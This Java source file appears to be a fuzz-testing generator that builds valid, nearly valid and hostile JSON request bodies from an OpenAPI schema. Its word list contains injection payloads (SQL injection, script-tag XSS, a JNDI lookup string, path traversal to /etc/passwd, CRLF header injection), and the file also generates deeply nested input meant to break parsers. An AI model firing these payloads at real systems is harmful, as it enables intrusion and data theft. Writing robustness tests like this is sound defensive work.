package org.hathor.api;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.random.RandomGenerator;

/** JSON texts from a schema: what it asks for, nearly that, or what somebody sends who means harm. */
final class HostileJson {

    private static final List<String> WORDS = List.of(
            "",
            " ",
            "Maintenance tonight at 22:00.",
            "\u0000",
            "a\u0000b",
            "\uD800",
            "\uDC00\uD800",
            "\uFFFF\uFFFE\uFEFF",
            "\u202Eolleh\u202C",
            "e\u0301\u0327\u0489\u0489",
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "' or 1=1; drop table account; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://192.0.2.1/a}",
            "#{facesContext}",
            "../../../../etc/passwd",
            "%s%n%x",
            "true",
            "NaN",
            "\r\nSet-Cookie: a=b",
            "x".repeat(501),
            "\uD83C\uDFB5".repeat(500),
            "y".repeat(20_000));

    private static final List<String> TIMES = List.of(
            "2026-11-20T20:00:00Z",
            "2026-11-20T20:00:00+14:00",
            "0000-01-01T00:00:00Z",
            "-4713-11-23T00:00:00Z",
            "-4714-01-01T00:00:00Z",
            "+294276-12-31T23:59:59Z",
            "+294277-01-01T00:00:00Z",
            "+1000000000-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z",
            "2026-02-30T00:00:00Z",
            "2026-12-31T23:59:60Z",
            "2026-11-20",
            "now");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-1",
            "1",
            "1.5",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "1e308",
            "1e309",
            "1e999999999",
            "-1e-999999999",
            "9".repeat(400),
            "0x10",
            "01");

    private static final int DEPTH = 4_000;

    private final RandomGenerator random;
    private final OpenApiDocument document;

    HostileJson(OpenApiDocument document, RandomGenerator random) {
        this.document = document;
        this.random = random;
    }

    String text(JsonNode schema) {
        return switch (random.nextInt(12)) {
            case 0, 1, 2, 3 -> value(schema, false);
            case 4, 5, 6, 7 -> value(schema, true);
            case 8 -> broken(value(schema, true));
            case 9 -> any(3);
            case 10 -> "[".repeat(DEPTH) + "]".repeat(DEPTH);
            default -> "{\"a\":".repeat(DEPTH) + any(0) + "}".repeat(DEPTH);
        };
    }

    /** A text that fits the schema; when it should only nearly do so, every part is sometimes something else. */
    private String value(JsonNode reference, boolean nearly) {
        var schema = document.resolve(reference);
        if (nearly && random.nextInt(4) == 0) {
            return any(2);
        }
        if (schema.path("enum").isArray() && !schema.path("enum").isEmpty()) {
            return schema.path("enum")
                    .get(random.nextInt(schema.path("enum").size()))
                    .toString();
        }
        return switch (type(schema)) {
            case "object" -> object(schema, nearly);
            case "array" -> "[" + value(schema.path("items"), nearly) + "]";
            case "integer", "number" -> nearly ? pick(NUMBERS) : Integer.toString(random.nextInt(300) - 50);
            case "boolean" -> Boolean.toString(random.nextBoolean());
            case "null" -> "null";
            default -> string(schema);
        };
    }

    private static String type(JsonNode schema) {
        var type = schema.path("type");
        if (type.isArray() && !type.isEmpty()) {
            return type.get(0).asText();
        }
        return schema.has("properties") ? "object" : type.asText("string");
    }

    private String object(JsonNode schema, boolean nearly) {
        var fields = new TreeMap<String, String>();
        for (Map.Entry<String, JsonNode> property : schema.path("properties").properties()) {
            if (!nearly || random.nextInt(5) > 0) {
                fields.put(property.getKey(), value(property.getValue(), nearly));
            }
        }
        if (nearly && random.nextInt(4) == 0) {
            fields.put(pick(WORDS), any(1));
        }
        return fields.entrySet().stream()
                .map(field -> quoted(field.getKey()) + ":" + field.getValue())
                .collect(java.util.stream.Collectors.joining(",", "{", "}"));
    }

    private String string(JsonNode schema) {
        return switch (schema.path("format").asText("")) {
            case "date-time" -> quoted(pick(TIMES));
            case "uuid" -> quoted(new UUID(random.nextLong(), random.nextLong()).toString());
            default -> quoted(pick(WORDS));
        };
    }

    private String any(int depth) {
        return switch (random.nextInt(depth > 0 ? 8 : 6)) {
            case 0 -> "null";
            case 1 -> pick(NUMBERS);
            case 2 -> "false";
            case 3, 4 -> quoted(pick(WORDS));
            case 5 -> quoted(pick(TIMES));
            case 6 -> "[" + any(depth - 1) + "," + any(depth - 1) + "]";
            default -> "{" + quoted(pick(WORDS)) + ":" + any(depth - 1) + "}";
        };
    }

    private String broken(String json) {
        var cut = random.nextInt(json.length() + 1);
        return switch (random.nextInt(4)) {
            case 0 -> json.substring(0, cut);
            case 1 -> json.substring(0, cut) + '\u0000' + json.substring(cut);
            case 2 -> json + json;
            default -> json.replace('"', '\'');
        };
    }

    /** Some of the time as escapes, else as they are: a lone surrogate then becomes what UTF-8 makes of it. */
    private String quoted(String text) {
        if (random.nextBoolean()) {
            return JsonNodeFactory.instance.textNode(text).toString();
        }
        var escaped = new StringBuilder("\"");
        text.chars().forEach(c -> escaped.append("\\u%04x".formatted(c)));
        return escaped.append('"').toString();
    }

    String pick(List<String> some) {
        return some.get(random.nextInt(some.size()));
    }

    String word() {
        return pick(WORDS);
    }
}
